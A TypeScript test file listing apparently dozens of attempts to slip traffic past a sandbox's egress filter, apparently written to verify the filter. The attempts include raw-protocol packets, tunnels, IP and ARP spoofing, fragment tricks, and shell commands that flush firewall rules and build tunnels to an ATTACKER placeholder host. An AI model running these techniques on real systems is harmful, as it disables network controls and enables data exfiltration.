import { attempts } from './attempt.ts';

/** Past the names, by traffic that is not a connection to port 80 or 443, or not even a proper packet. */
export const packets = attempts('names', 'packets', {
  'another address, port 80': "tcp(OTHER, 80, b'GET / HTTP/1.0\\r\\n\\r\\n')",
  'another address, port 443': 'tcp(OTHER, 443)',
  'another address, another port': 'tcp(OTHER, 7000)',
  "an allowed name's address, another port": 'tcp(ALLOWED, 7000)',
  "an allowed name's address, a port beside 443": 'tcp(ALLOWED, 444)',
  'a well-known resolver by HTTPS': "tls(ANYCAST, 'one.one.one.one')",
  'UDP to another address': 'udp(OTHER, 7000)',
  "UDP to an allowed name's address": 'udp(ALLOWED, 7000)',
  'QUIC to another address': 'udp(OTHER, 443, bytes([0xc0, 0, 0, 0, 1]) + bytes(1200))',
  "QUIC to an allowed name's address": 'udp(ALLOWED, 443, bytes([0xc0, 0, 0, 0, 1]) + bytes(1200))',
  'UDP to port 80': 'udp(ALLOWED, 80)',
  'many datagrams at once': "udp(ATTACKER, 7000, b'x', times=200)",
  'ping another address': 'ping(OTHER)',
  "ping an allowed name's address": 'ping(ALLOWED)',
  'ping the resolver': 'ping(RESOLVER)',
  'ICMP without privileges':
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(WAIT); s.sendto(b'\\x08\\x00\\x00\\x00\\x00\\x01\\x00\\x01data', (OTHER, 0)); print(s.recv(100))",
  GRE: "raw(ip(ATTACKER, b'\\0\\0\\x08\\0' + ip(OTHER, datagram()), protocol=47))",
  'IP in IP': 'raw(ip(ATTACKER, ip(OTHER, datagram()), protocol=4))',
  'IPv6 in IP (6in4)': "raw(ip(ATTACKER, b'\\x60' + bytes(39), protocol=41))",
  ESP: 'raw(ip(ATTACKER, bytes(40), protocol=50))',
  'SCTP, raw': 'raw(ip(ATTACKER, bytes(40), protocol=132))',
  'SCTP, by a socket': 'socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((ATTACKER, 80))',
  DCCP: 'raw(ip(ATTACKER, bytes(40), protocol=33))',
  'UDP-Lite': 'raw(ip(ATTACKER, datagram(), protocol=136))',
  'an unassigned protocol': "raw(ip(ATTACKER, b'carried out', protocol=253))",
  'protocol 0': "raw(ip(ATTACKER, b'carried out', protocol=0))",
  MPTCP: 's = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(WAIT); s.connect((OTHER, 7000))',
  'TCP fast open with data':
    "s = socket.socket(); s.settimeout(WAIT); s.sendto(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n', 0x20000000, (OTHER, 7000))",
  'a segment of no connection':
    "raw(ip(OTHER, segment(OTHER, flags=0x18, data=b'GET / HTTP/1.0\\r\\n\\r\\n'), protocol=6))",
  'a SYN with data': "raw(ip(OTHER, segment(OTHER, port=7000, data=b'carried out'), protocol=6))",
  'SYN and FIN': 'raw(ip(OTHER, segment(OTHER, port=7000, flags=3), protocol=6))',
  'a segment without flags': "raw(ip(OTHER, segment(OTHER, port=7000, flags=0, data=b'x'), protocol=6))",
  'RST as a signal': 'raw(ip(OTHER, segment(OTHER, port=7000, flags=4), protocol=6))',
  'data in a SYN to an allowed port of another address':
    "raw(ip(OTHER, segment(OTHER, port=443, data=b'carried out'), protocol=6))",
  'fragments of a datagram':
    "d = datagram(b'x' * 64); raw(ip(ATTACKER, d[:24], fragment=0x2000), ip(ATTACKER, d[24:], fragment=3))",
  'only the second fragment': "raw(ip(ATTACKER, b'carried out here', fragment=3))",
  'fragments that part the TCP header':
    'g = segment(OTHER, port=7000); raw(ip(OTHER, g[:8], protocol=6, fragment=0x2000), ip(OTHER, g[8:], protocol=6, fragment=1))',
  'overlapping fragments: an allowed port, then another':
    'a, b = segment(OTHER, port=443), segment(OTHER, port=7000); raw(ip(OTHER, a[:16], protocol=6, fragment=0x2000), ip(OTHER, b[:16], protocol=6, fragment=0x2000), ip(OTHER, b[16:], protocol=6, fragment=2))',
  'loose source routing past the resolver':
    "raw(ip(RESOLVER, datagram(port=53), options=bytes([0x83, 7, 4]) + socket.inet_aton(ATTACKER) + b'\\0'))",
  'strict source routing past an allowed address':
    "raw(ip(ALLOWED, segment(ALLOWED), protocol=6, options=bytes([0x89, 7, 4]) + socket.inet_aton(OTHER) + b'\\0'))",
  'record route': "raw(ip(OTHER, datagram(), options=bytes([7, 7, 4]) + bytes(4) + b'\\0'))",
  'a time to live of one': 'raw(ip(OTHER, datagram(), ttl=1), ip(OTHER, datagram(), ttl=2))',
  "another source: the slot's address outside": 'raw(*[ip(OTHER, datagram(), source=slot(n)) for n in range(8)])',
  'another source: the host': 'raw(ip(OTHER, datagram(), source=HOST))',
  'another source: the gateway': 'raw(ip(OTHER, datagram(), source=GATEWAY))',
  'another source: loopback': "raw(ip(OTHER, datagram(), source='127.0.0.1'))",
  'another source: an allowed address, for its answer': 'raw(ip(OTHER, datagram(), source=ALLOWED))',
  'another source: the proxy':
    'raw(*[ip(OTHER, datagram(), source=proxy_source(n)) for n in range(8)], ip(OTHER, datagram(), source=PROXY))',
  'another source: none': "frame(ip(OTHER, datagram(), source='0.0.0.0'))",
  'a frame from another card': "frame(ip(OTHER, datagram()), source=b'\\x02\\0\\0\\0\\0\\x01')",
  'a frame to everybody': "frame(ip(OTHER, datagram()), destination=b'\\xff' * 6)",
  'a frame to another card': "frame(ip(OTHER, datagram()), destination=b'\\x02\\0\\0\\0\\0\\x02')",
  'a frame in a VLAN': "frame(struct.pack('>HH', 1, 0x0800) + ip(OTHER, datagram()), kind=0x8100)",
  'a frame in two VLANs': "frame(struct.pack('>HHHH', 1, 0x8100, 2, 0x0800) + ip(OTHER, datagram()), kind=0x88a8)",
  'a packet of IPv4 with a length that lies':
    "p = bytearray(ip(OTHER, datagram(b'x' * 100))); p[2:4] = b'\\0\\x1c'; frame(bytes(p))",
  'IPv4 in a frame of IPv6': 'frame(ip(OTHER, datagram()), kind=0x86dd)',
  'ARP: we are the gateway':
    "frame(struct.pack('>HHBBH', 1, 0x0800, 6, 4, 2) + SELF_MAC + socket.inet_aton(GATEWAY) + GATEWAY_MAC + socket.inet_aton(GATEWAY), kind=0x0806); tcp(OTHER, 7000)",
  'ARP: we are the way to the internet':
    "frame(struct.pack('>HHBBH', 1, 0x0800, 6, 4, 2) + SELF_MAC + socket.inet_aton('192.0.2.1') + b'\\xff' * 6 + socket.inet_aton('192.0.2.1'), kind=0x0806, destination=b'\\xff' * 6); tcp(OTHER, 7000)",
  "ARP: we have a neighbour's address":
    "each(lambda n: frame(struct.pack('>HHBBH', 1, 0x0800, 6, 4, 2) + SELF_MAC + socket.inet_aton(slot(n)) + b'\\xff' * 6 + socket.inet_aton(slot(n)), kind=0x0806), 8)",
  'ICMP redirect to the host':
    "raw(ip(GATEWAY, struct.pack('>BBH4s', 5, 1, 0, socket.inet_aton(SELF)) + ip(OTHER, datagram()), protocol=1)); tcp(OTHER, 7000)",
  multicast: "udp('224.0.0.251', 5353)",
  broadcast:
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b'x', ('255.255.255.255', 67))",
  'IPv6: a mapped address':
    "s = socket.socket(socket.AF_INET6); s.settimeout(WAIT); s.connect(('::ffff:' + OTHER, 7000))",
  'IPv6: a public address': "s = socket.socket(socket.AF_INET6); s.settimeout(WAIT); s.connect(('2001:db8::1', 80))",
  'IPv6: by frame':
    "frame(b'\\x60' + struct.pack('>IHBB', 0, 16, 17, 64)[1:] + socket.inet_pton(10, 'fe80::1') + socket.inet_pton(10, '2001:db8::1') + datagram(), kind=0x86dd)",
  'IPv6: a router advertisement':
    "frame(b'\\x60' + struct.pack('>IHBB', 0, 16, 58, 255)[1:] + socket.inet_pton(10, 'fe80::1') + socket.inet_pton(10, 'ff02::1') + struct.pack('>BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0), kind=0x86dd, destination=bytes.fromhex('333300000001'))",
  Teredo: 'udp(ATTACKER, 3544)',
  WireGuard: 'udp(ATTACKER, 51820, bytes([1, 0, 0, 0]) + bytes(144))',
  'own route, own address':
    "run('ip address add 192.0.2.77/24 dev eth0; ip route replace default via 169.254.0.22 dev eth0 src 192.0.2.77; ip neigh flush all'); tcp(OTHER, 7000)",
  'own network namespace':
    "run('unshare --net --map-root-user ip link set lo up; unshare --user --net true'); tcp(OTHER, 7000)",
  'own packet rules':
    "run('nft flush ruleset; iptables -F; nft add table inet x; echo 1 > /proc/sys/net/ipv4/ip_forward; sysctl -w net.ipv4.conf.all.rp_filter=0'); tcp(OTHER, 7000)",
  'a tunnel device':
    "run('ip tuntap add dev tun0 mode tun; ip link add x type vxlan id 1 remote 203.0.113.66 dstport 4789 dev eth0; ip link add g type gretap remote 203.0.113.66 local 169.254.0.21'); tcp(OTHER, 7000)",
});
